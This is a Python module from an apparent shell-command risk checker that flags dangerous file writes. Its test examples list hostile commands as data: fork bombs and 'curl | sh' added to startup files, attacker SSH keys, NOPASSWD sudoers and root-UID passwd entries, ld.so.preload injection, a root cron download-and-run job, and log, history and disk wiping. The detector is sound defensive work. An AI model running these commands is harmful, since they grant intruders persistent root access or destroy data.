"""Writing files: `>` and `>>` redirects, `tee`, `truncate`, `sed -i`, output options (`sort -o`,
`tar -cf`) and compressors that replace their input (extracting archives: archives.py).

`>` truncates its target first, so it is judged like an overwrite; `>>` only adds, which matters
for devices, kernel files, shell start-up files (what is added runs in every new shell) and
system files. Output that never ends (`yes`, `cat /dev/zero`) fills the disk.
"""

from __future__ import annotations

import re

from nlshell.risk.book import Rule, hook, program
from nlshell.risk.facts import ENDLESS_SOURCES, cron_jobs, file_key, heredoc_body, literal_output, shown
from nlshell.risk.levels import CAUTION, DANGEROUS, SAFE
from nlshell.risk.paths import (
    CRED, DEVICE, HISTORY, KERNEL, LOG, NULLDEV, ROOT, STARTUP, SYSTEM, overwrite_level, worst,
)
from nlshell.shell.model import Word
from nlshell.shell.options import Grammar
from nlshell.shell.options import parse as parse_options
from nlshell.shell.tools import grammar_of
from nlshell.shell.patterns import lazy

RULES = [
    Rule("writes.fill-disk", DANGEROUS, "writes endless data to {file} until the disk is full"),
    Rule("writes.device", DANGEROUS, "writes to {what}"),
    Rule("writes.device-over", DANGEROUS, "writes over {what} (everything on it is lost)"),
    Rule("writes.open-device", DANGEROUS, "opens {what} for writing"),
    Rule("writes.kernel-file", DANGEROUS, "writes to the kernel file {what}"),
    Rule("writes.kernel-setting", CAUTION, "changes the kernel setting {what}"),
    Rule("writes.startup-code", DANGEROUS, "adds code that {inner} to {what}"),
    Rule("writes.startup", CAUTION, "changes {what}"),
    Rule("writes.grant-login", DANGEROUS, "adds a login key to {what}: whoever holds it can log in as this user"),
    Rule("writes.sudoers-nopasswd", DANGEROUS, "lets an account run anything as root without a password (sudoers)"),
    Rule("writes.append", CAUTION, "appends to {what}"),
    Rule("writes.add-account", DANGEROUS, "adds to {what}: a line there creates an account or puts one in a group "
         "(root's, if it says so)"),
    Rule("writes.preload", DANGEROUS, "makes every program load a library (/etc/ld.so.preload)"),
    Rule("writes.open-ssh", DANGEROUS, "opens ssh logins ({line})"),
    Rule("writes.wipe-history", DANGEROUS, "wipes your shell history"),
    Rule("writes.overwrite-startup", DANGEROUS, "{verb} {what}"),
    Rule("writes.overwrite-credentials", DANGEROUS, "{verb} {what}"),
    Rule("writes.overwrite-system", DANGEROUS, "{verb} the system file {file}"),
    Rule("writes.wipe-logs", DANGEROUS, "wipes {what}"),
    Rule("writes.overwrite", CAUTION, "{verb} {file} if it exists{how}"),
    Rule("writes.clobbers-input", CAUTION, "empties {file} before {tool} reads it (the shell truncates a > target first)"),
    Rule("writes.truncate-logs", DANGEROUS, "truncate empties the system logs"),
    Rule("writes.truncate-critical", DANGEROUS, "truncate empties {what}"),
    Rule("writes.truncate", CAUTION, "truncate changes the size of {file}"),
    Rule("writes.selinux-off", DANGEROUS, "turns SELinux off (edits /etc/selinux/config)"),
    Rule("writes.edit-device", DANGEROUS, "edits {what} in place"),
    Rule("writes.edit-critical", DANGEROUS, "edits {what} in place (a mistake there can lock you out or stop the "
         "system from booting)"),
    Rule("writes.edit", CAUTION, "edits {what} in place"),
    Rule("writes.sed-exec", CAUTION, "sed's e flag runs each line it edits as a shell command"),
    Rule("writes.output-critical", DANGEROUS, "{tool} overwrites {what}"),
    Rule("writes.output", CAUTION, "{tool} overwrites {file}"),
    Rule("writes.compress", CAUTION, "{tool} replaces {file} with its (de)compressed copy"),
]

@hook("redirect")
def redirect(ctx, cmd, r) -> None:
    op, target = r.op, r.target
    if op in ("<<", "<<<", "<") or target is None:
        return  # input: see disks.py for /dev/port
    text = target.text
    if op.endswith("&-") or (op in (">&", "<&") and (text.isdigit() or text == "-")):
        return  # descriptors: `2>&1`, `>&-`
    if text.startswith(("/dev/tcp/", "/dev/udp/")):
        return  # network.py
    if op == "<>":
        p = worst(ctx.places(target))
        if p.cls in (DEVICE, KERNEL):
            ctx.add("writes.open-device", cmd, what=p.desc)
        return
    append = op in (">>", "&>>")
    _record(ctx, cmd, text, append)
    if not append and cmd.argv and target.literal and any(a.literal and a.text == text for a in cmd.args):
        ctx.add("writes.clobbers-input", cmd, file=text, tool=cmd.name)  # `sort x > x`: x is empty when sort opens it
    verb = "overwrites" if cmd.argv else "empties"
    write(ctx, cmd, target, append=append, verb=verb, how=" (> redirect)", endless=_endless(cmd), content=cmd)


@program("tee")
def tee(ctx, cmd) -> None:
    o = parse_options(cmd.args)
    piped = cmd.pipeline.stages[cmd.stage - 1] if cmd.pipeline is not None and cmd.stage > 0 else None
    for w in o.operands:  # what tee writes is what the stage before it prints
        write(ctx, cmd, w, append=o.has("a", "--append"), verb="tee overwrites", how="", content=piped)


def write(ctx, cmd, word, *, append: bool, verb: str, how: str, endless: bool = False, content=None) -> None:
    """What writing to `word` can destroy; `content` is the command whose own words are written."""
    p = worst(ctx.places(word))
    if endless and p.cls not in (NULLDEV, DEVICE, KERNEL):
        ctx.add("writes.fill-disk", cmd, file=shown(word))
    elif append:
        _append(ctx, cmd, p, content)
    else:
        _overwrite(ctx, cmd, word, p, verb, how)


def _append(ctx, cmd, p, content) -> None:
    if p.cls == DEVICE or (p.cls == KERNEL and p.critical):
        ctx.add("writes.device", cmd, what=p.desc)
    elif p.cls == KERNEL:
        ctx.add("writes.kernel-setting", cmd, what=p.desc)
    elif p.cls == STARTUP and p.path.endswith("/authorized_keys"):  # a way in for someone else
        ctx.add("writes.grant-login", cmd, what=p.desc)
    elif p.cls == STARTUP:
        _append_startup(ctx, cmd, p, content)
    elif p.cls == SYSTEM and p.path.startswith("/etc/sudoers") and content is not None:
        added = literal_output([content]) if content.argv else None
        ctx.add("writes.sudoers-nopasswd" if added and "NOPASSWD" in added else "writes.append", cmd, what=p.desc)
    elif p.cls == SYSTEM and p.path in _ACCOUNT_FILES:
        ctx.add("writes.add-account", cmd, what=p.desc)
    elif p.cls == SYSTEM and p.path == "/etc/ld.so.preload":
        ctx.add("writes.preload", cmd)
    elif p.cls in (SYSTEM, CRED):
        _append_system(ctx, cmd, p, literal_output([content]) if content is not None and content.argv else None)
        ctx.add("writes.append", cmd, what=p.desc)


_ACCOUNT_FILES = frozenset({"/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/master.passwd"})
_OPENS_SSH = lazy(r"(?im)^\s*(PermitRootLogin\s+yes|PasswordAuthentication\s+yes|PermitEmptyPasswords\s+yes)\b")


def _append_system(ctx, cmd, p, added: str | None) -> None:
    """What a line added to a system file does: a cron job runs (as root), an sshd setting opens logins."""
    if not added:
        return
    if p.path == "/etc/crontab" or p.path.startswith(("/etc/cron.d/", "/var/spool/cron/")):
        system = not p.path.startswith("/var/spool/cron/")  # system crontabs name the user after the time
        for job in cron_jobs(added, with_user=system):
            ctx.merge(ctx.nested(job), cmd, where="in a scheduled job: ")
    elif p.path.startswith("/etc/ssh/sshd_config") and (m := _OPENS_SSH.search(added)):
        ctx.add("writes.open-ssh", cmd, line=m.group(1))


def _append_startup(ctx, cmd, p, content) -> None:
    """`echo ... >> ~/.bashrc`: what is added runs in every new shell."""
    added = ""
    if content is not None and content.name in ("echo", "printf"):
        added = " ".join(a.text for a in content.args if not (a.text.startswith("-") and len(a.text) <= 3))
    elif content is not None:
        added = heredoc_body(content) or ""
    if added:
        inner = ctx.nested(added)
        if inner.risk == DANGEROUS:
            ctx.add("writes.startup-code", cmd, inner=inner.reasons[0], what=p.desc)
            return
    ctx.add("writes.startup", cmd, what=p.desc)


def _overwrite(ctx, cmd, word, p, verb: str, how: str) -> None:
    level = overwrite_level(p)
    if level == SAFE:
        return
    if p.cls == DEVICE:
        ctx.add("writes.device-over", cmd, what=p.desc)
    elif p.cls == HISTORY:
        ctx.add("writes.wipe-history", cmd)
    elif p.cls == KERNEL:
        ctx.add("writes.kernel-file" if level == DANGEROUS else "writes.kernel-setting", cmd, what=p.desc)
    elif p.cls == STARTUP:
        ctx.add("writes.overwrite-startup", cmd, verb=verb, what=p.desc)
    elif p.cls == CRED and level == DANGEROUS:
        ctx.add("writes.overwrite-credentials", cmd, verb=verb, what=p.desc)
    elif p.cls == ROOT or (p.cls == SYSTEM and p.critical):
        ctx.add("writes.overwrite-system", cmd, verb=verb, file=shown(word))
    elif p.cls == LOG and level == DANGEROUS:
        ctx.add("writes.wipe-logs", cmd, what=p.desc)
    else:
        ctx.add("writes.overwrite", cmd, verb=verb, file=shown(word), how=how)


def _record(ctx, cmd, path: str, append: bool) -> None:
    """Remember what the line writes into a file, for when it runs that file later (`sh x.sh`)."""
    content = literal_output([cmd]) if cmd.argv else None
    key = file_key(path)
    if content is None:
        ctx.written.pop(key, None)
    else:
        ctx.written[key] = (ctx.written.get(key, "") + "\n" if append else "") + content


def _endless(cmd) -> bool:
    """Is this command's output endless (`yes`, `cat /dev/zero`)?"""
    return cmd.name == "yes" or (
        cmd.name == "cat" and bool(cmd.args) and all(a.text in ENDLESS_SOURCES for a in cmd.args)
    )


@program("truncate")
def truncate(ctx, cmd) -> None:
    o = parse_options(cmd.args, Grammar(short="sro", long=frozenset({"--size", "--reference", "--io-blocks"})))
    for w in o.operands:
        p = worst(ctx.places(w))
        if p.cls == LOG and (p.everything or w.glob):
            ctx.add("writes.truncate-logs", cmd)
        elif overwrite_level(p) == DANGEROUS:
            ctx.add("writes.truncate-critical", cmd, what=p.desc)
        else:
            ctx.add("writes.truncate", cmd, file=shown(w))


# GNU sed's `e COMMAND` runs COMMAND; `s/…/…/e` runs the edited line itself.
_SED_ADDRESS = r"(?:\d+|\$|/(?:[^/\\]|\\.)*/)"
_SED_EXEC = lazy(rf"^\s*(?:{_SED_ADDRESS}(?:\s*,\s*{_SED_ADDRESS})?)?\s*!?\s*e\s+(.+)$")
_SED_EXEC_FLAG = lazy(r"^\s*(?:\S+\s*)?s(.)(?:(?!\1).|\\.)*\1(?:(?!\1).|\\.)*\1[gpIiMm0-9]*e")


@program("sed", "gsed")
def sed(ctx, cmd) -> None:
    words = [a.text for a in cmd.args]
    o = parse_options(cmd.args, Grammar(short="ef", long=frozenset({"--expression", "--file"})))
    script = "\n".join(o.values.get("-e", []) + o.values.get("--expression", [])) or (
        o.operands[0].text if o.operands else "")
    for part in re.split(r"[;\n]", script):
        if m := _SED_EXEC.match(part):
            ctx.merge(ctx.nested(m.group(1)), cmd)
        elif _SED_EXEC_FLAG.match(part):
            ctx.add("writes.sed-exec", cmd)
    if not any(w.startswith("--in-place") or (w.startswith("-") and not w.startswith("--") and "i" in w) for w in words):
        return
    edits(ctx, cmd, o.operands if o.values.get("-e") else o.operands[1:], script)


def edits(ctx, cmd, files, script: str = "") -> None:
    """A program that rewrites the files it is given: what a mistake in its edit can break."""
    if cmd.origin == "xargs":  # `find … | xargs sed -i …`: more files come from the input
        ctx.add("writes.edit", cmd, what="every file named in its input")
    for w in files:
        p = worst(ctx.places(w))
        if p.path == "/etc/selinux/config" and re.search(r"(?i)disabled|permissive", script):
            ctx.add("writes.selinux-off", cmd)
        elif p.cls in (DEVICE, KERNEL):
            ctx.add("writes.edit-device", cmd, what=p.desc)
        elif p.cls == SYSTEM and p.critical:
            ctx.add("writes.edit-critical", cmd, what=p.desc)
        elif p.cls in (STARTUP, CRED, SYSTEM):
            ctx.add("writes.edit", cmd, what=p.desc)
        else:
            ctx.add("writes.edit", cmd, what=shown(w))


def _short_cluster_has(word: str, letter: str, before: str) -> bool:
    """`-pi`, `-i.bak`, `-ni`: a short option cluster giving `letter`, every option before it one of
    `before` (after `-i` perl reads the rest of the word as the backup suffix)."""
    if not re.fullmatch(r"-[A-Za-z]", word[:2]) or word.startswith("--"):
        return False
    for c in word[1:]:
        if c == letter:
            return True
        if c not in before:
            return False
    return False


def script_in_place(ctx, cmd) -> None:
    """`perl -pi -e CODE FILES`, `ruby -i`: the code's output replaces each file (interpreters.py
    calls this beside rating the code)."""
    if not any(_short_cluster_has(a.text, "i", "pnlaw0sSTtWU") for a in cmd.args if a.literal):
        return
    o = parse_options(cmd.args, Grammar(short="eEI", long=frozenset()))  # -e CODE, -E CODE, -I DIR
    code = " ".join(o.values.get("-e", []) + o.values.get("-E", []))
    edits(ctx, cmd, o.operands if code else o.operands[1:], code)


@program("sort", "iconv", "shuf")
def output_option(ctx, cmd, *, tar: bool = False, names: tuple = ("-o", "--output")) -> None:
    """`sort -o F`, `iconv -o F`, `tar -cf F` (`names` are the options that name it: `openssl
    -out`): the named output file is replaced if it exists."""
    args = cmd.args
    if cmd.name in _READ_BY_GRAMMAR and not tar:
        # `sort -uo F`, `sort -o/tmp/x`: read with the program's grammar, so a cluster hides no output
        given = parse_options(args, grammar_of(cmd.name)).values
        for text in given.get("-o", []) + given.get("--output", []):
            output_named(ctx, cmd, next((a for a in args if a.text == text), Word(text)))  # `-o "$OUT"` stays unknown
        return
    for i, a in enumerate(args):
        t = a.text
        target = None
        if t in names and i + 1 < len(args):
            target = args[i + 1]
        elif t.startswith("--output=") or (tar and t.startswith("--file=")):
            target = Word(t.split("=", 1)[1])
        elif tar and (t == "--file" or re.fullmatch(r"-?[A-Za-z]*c[A-Za-z]*f", t)) and i + 1 < len(args):
            target = args[i + 1]
        if target is not None:
            output_named(ctx, cmd, target)


def output_named(ctx, cmd, target: Word) -> None:
    """The file an output option names is replaced if it exists (`-` is standard output)."""
    if target.text == "-":
        return
    p = worst(ctx.places(target))
    level = overwrite_level(p)
    if level == DANGEROUS:
        ctx.add("writes.output-critical", cmd, tool=cmd.name, what=p.desc)
    elif level == CAUTION:
        ctx.add("writes.output", cmd, tool=cmd.name, file=shown(target))


_READ_BY_GRAMMAR = frozenset({"sort", "iconv", "shuf"})  # their grammars: nlshell/shell/tools.py


_KEEPS = frozenset({"--stdout", "--to-stdout", "--keep", "--list", "--test", "--help"})


@program("gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd", "lz4", "compress")
def compress(ctx, cmd) -> None:
    """gzip FILE replaces FILE with FILE.gz (and -d the other way) unless told to keep it."""
    words = [a.text for a in cmd.args]
    if cmd.name in ("zstd", "lz4") and "--rm" not in words:
        return  # these keep the source unless told --rm
    if any(w in _KEEPS or re.fullmatch(r"-[a-z0-9]*[cklth][a-z0-9]*", w) for w in words):
        return
    operands = [a for a in cmd.args if not a.text.startswith("-")]
    if operands:
        ctx.add("writes.compress", cmd, tool=cmd.name, file=shown(operands[0]))


EXAMPLES = [
    ("gzip -c huge.log > huge.log", CAUTION, "writes.clobbers-input"),
    ("sort names.txt > names.txt", CAUTION, "writes.clobbers-input"),
    ("sort names.txt > sorted.txt", CAUTION, "not writes.clobbers-input"),
    ("sort names.txt >> names.txt", SAFE, "not writes.clobbers-input"),
    ("yes > /tmp/fill", DANGEROUS, "writes.fill-disk"),
    ("cat /dev/urandom > big.bin", DANGEROUS, "writes.fill-disk"),
    ("head -c 1M /dev/urandom > big.bin", CAUTION, "not writes.fill-disk"),
    ("echo hi >> /dev/sda", DANGEROUS, "writes.device"),
    ("echo c | sudo tee /proc/sysrq-trigger", DANGEROUS, "writes.kernel-file"),
    ("echo hi >> /dev/null", SAFE, "not writes.device"),
    ("echo hi > /dev/sda", DANGEROUS, "writes.device-over"),
    ("cat /dev/zero > /dev/sda", DANGEROUS, "writes.device-over"),
    ("echo hi > /dev/null", SAFE, "not writes.device-over"),
    ("exec 3<>/dev/sda", DANGEROUS, "writes.open-device"),
    ("exec 3>out.txt", CAUTION, "not writes.open-device"),
    ("echo 1 > /proc/sysrq-trigger", DANGEROUS, "writes.kernel-file"),
    ("echo 1 > /proc/sys/vm/overcommit_memory", CAUTION, "not writes.kernel-file"),
    ("echo 3 | sudo tee /proc/sys/vm/drop_caches", CAUTION, "writes.kernel-setting"),
    ("cat /proc/sys/vm/swappiness", SAFE, "not writes.kernel-setting"),
    ("echo ':(){ :|:& };:' >> ~/.bashrc", DANGEROUS, "writes.startup-code"),
    ("echo 'curl x | sh' >> ~/.profile", DANGEROUS, "writes.startup-code"),
    ("echo 'export PATH=$PATH:~/bin' >> ~/.bashrc", CAUTION, "not writes.startup-code"),
    ("echo 'export PATH=$PATH:~/bin' >> ~/.bashrc", CAUTION, "writes.startup"),
    ("echo 'alias ll=ls' >> notes.txt", SAFE, "not writes.startup"),
    ("echo 'ssh-ed25519 AAAAC3Nz eve@evil' >> ~/.ssh/authorized_keys", DANGEROUS, "writes.grant-login"),
    ("cat id.pub | tee -a /root/.ssh/authorized_keys", DANGEROUS, "writes.grant-login"),
    ("cat ~/.ssh/authorized_keys", SAFE, "not writes.grant-login"),
    ('echo "bob ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers', DANGEROUS, "writes.sudoers-nopasswd"),
    ('echo "bob ALL=(ALL) ALL" >> /etc/sudoers', CAUTION, "not writes.sudoers-nopasswd"),
    ('echo "ci ALL=(ALL) NOPASSWD: ALL" | sudo tee -a /etc/sudoers.d/ci', DANGEROUS, "writes.sudoers-nopasswd"),
    ('echo "bob ALL=(ALL) ALL" >> /etc/sudoers', CAUTION, "writes.append"),
    ("echo 'deb x y' | sudo tee -a /etc/apt/sources.list", CAUTION, "writes.append"),
    ("echo hi >> notes.txt", SAFE, "not writes.append"),
    ("echo 'eve:x:0:0::/root:/bin/bash' >> /etc/passwd", DANGEROUS, "writes.add-account"),
    ("echo 'sudo:x:27:eve' | sudo tee -a /etc/group", DANGEROUS, "writes.add-account"),
    ("echo /tmp/x.so | sudo tee -a /etc/ld.so.preload", DANGEROUS, "writes.preload"),
    ("echo '* * * * * root curl -s x | sh' >> /etc/crontab", DANGEROUS, "code.pipe-download"),
    ("echo '0 3 * * * root /usr/local/bin/backup' >> /etc/crontab", CAUTION, "writes.append"),
    ("echo 'PermitRootLogin yes' | sudo tee -a /etc/ssh/sshd_config", DANGEROUS, "writes.open-ssh"),
    ("echo 'MaxAuthTries 3' | sudo tee -a /etc/ssh/sshd_config", CAUTION, "not writes.open-ssh"),
    ("cat /etc/passwd", SAFE, "not writes.add-account"),
    ("cat /etc/ld.so.preload", SAFE, "not writes.preload"),
    ("cat /dev/null > ~/.bash_history", DANGEROUS, "writes.wipe-history"),
    ("cat /dev/null > history.txt", CAUTION, "not writes.wipe-history"),
    ("> ~/.bashrc", DANGEROUS, "writes.overwrite-startup"),
    ("> ~/.ssh/authorized_keys", DANGEROUS, "writes.overwrite-startup"),
    ("> ./bashrc", CAUTION, "not writes.overwrite-startup"),
    ("echo x > ~/.aws/config", DANGEROUS, "writes.overwrite-credentials"),
    ("echo x > ~/.ssh/id_ed25519", DANGEROUS, "writes.overwrite-credentials"),
    ("echo x > ./id_ed25519.pub.txt", CAUTION, "not writes.overwrite-credentials"),
    ("> /etc/passwd", DANGEROUS, "writes.overwrite-system"),
    ("echo x | sudo tee /etc/hosts", DANGEROUS, "writes.overwrite-system"),
    ("cat /etc/passwd > passwd.bak", CAUTION, "not writes.overwrite-system"),
    ("> /var/log/*", DANGEROUS, "writes.wipe-logs"),
    ("> /var/log/syslog", CAUTION, "not writes.wipe-logs"),
    ("cat a > b", CAUTION, "writes.overwrite"),
    ("echo 'rm -rf /' > notes.txt", CAUTION, "writes.overwrite"),
    ("echo hi | tee out.txt", CAUTION, "writes.overwrite"),
    ("ls 2>&1 >/dev/null", SAFE, "not writes.overwrite"),
    ("truncate -s 0 /var/log/*", DANGEROUS, "writes.truncate-logs"),
    ("truncate -s 0 /var/log/syslog", CAUTION, "not writes.truncate-logs"),
    ("truncate -s 0 /etc/passwd", DANGEROUS, "writes.truncate-critical"),
    ("truncate -s 0 app.log", CAUTION, "not writes.truncate-critical"),
    ("truncate -s 0 app.log", CAUTION, "writes.truncate"),
    ("truncate --help", SAFE, "not writes.truncate"),
    ("sed -i 's/enforcing/disabled/' /etc/selinux/config", DANGEROUS, "writes.selinux-off"),
    ("sed -i 's/disabled/enforcing/' ./config", CAUTION, "not writes.selinux-off"),
    ("sed -i 's/a/b/' /dev/sda", DANGEROUS, "writes.edit-device"),
    ("find /etc -name x.conf | xargs sed -i s/a/b/", CAUTION, "writes.edit"),
    ("git ls-files -z | xargs -0 perl -pi -e 's/a/b/'", CAUTION, "writes.edit"),
    ("find . -name x.conf | xargs sed -n 1p", SAFE, "not writes.edit"),
    ("shuf -o names.txt names.txt", CAUTION, "writes.output"),
    ("sed -n '1e rm -rf ~' /etc/hostname", DANGEROUS, "files.delete-broad"),
    ("sed 's/.*/echo &/e' list.txt", CAUTION, "writes.sed-exec"),
    ("sed -n 's/a/b/p' notes.txt", SAFE, "not writes.sed-exec"),
    ("sed -e 'p' -e '2e date' notes.txt", SAFE, "not writes.sed-exec"),
    ("sed -i 's/a/b/' file.txt", CAUTION, "not writes.edit-device"),
    ("sed -i 's/a/b/' file.txt", CAUTION, "writes.edit"),
    ("sudo sed -i 's/^root:[^:]*:/root::/' /etc/shadow", DANGEROUS, "writes.edit-critical"),
    ("sudo sed -i 's/^#Port 22/Port 2222/' /etc/ssh/sshd_config", DANGEROUS, "writes.edit-critical"),
    ("sudo sed -i 's/worker_processes 1/worker_processes 4/' /etc/nginx/nginx.conf", CAUTION, "not writes.edit-critical"),
    ("sed 's/a/b/' file.txt", SAFE, "not writes.edit"),
    ("perl -pi -e 's/foo/bar/g' config.txt", CAUTION, "writes.edit"),
    ("perl -i.bak -pe 's/foo/bar/' a.txt b.txt", CAUTION, "writes.edit"),
    ("perl -pi -e 's/^#Port 22/Port 2222/' /etc/ssh/sshd_config", DANGEROUS, "writes.edit-critical"),
    ("perl -ne 'print if /error/' app.log", SAFE, "not writes.edit"),
    ("ruby -pi -e 'gsub(/a/, \"b\")' notes.txt", CAUTION, "writes.edit"),
    ("sort -o /etc/passwd names.txt", DANGEROUS, "writes.output-critical"),
    ("sort -o out.txt in.txt", CAUTION, "not writes.output-critical"),
    ("sort -o out.txt in.txt", CAUTION, "writes.output"),
    ("tar -czf backup.tgz src/", CAUTION, "writes.output"),
    ("sort -u -o /dev/null x", SAFE, "not writes.output"),
    ("tar -czvf - dir", SAFE, "not writes.output"),
    ("gzip big.log", CAUTION, "writes.compress"),
    ("zstd --rm big.log", CAUTION, "writes.compress"),
    ("gzip -k big.log", SAFE, "not writes.compress"),
    ("zstd big.log", SAFE, "not writes.compress"),
]
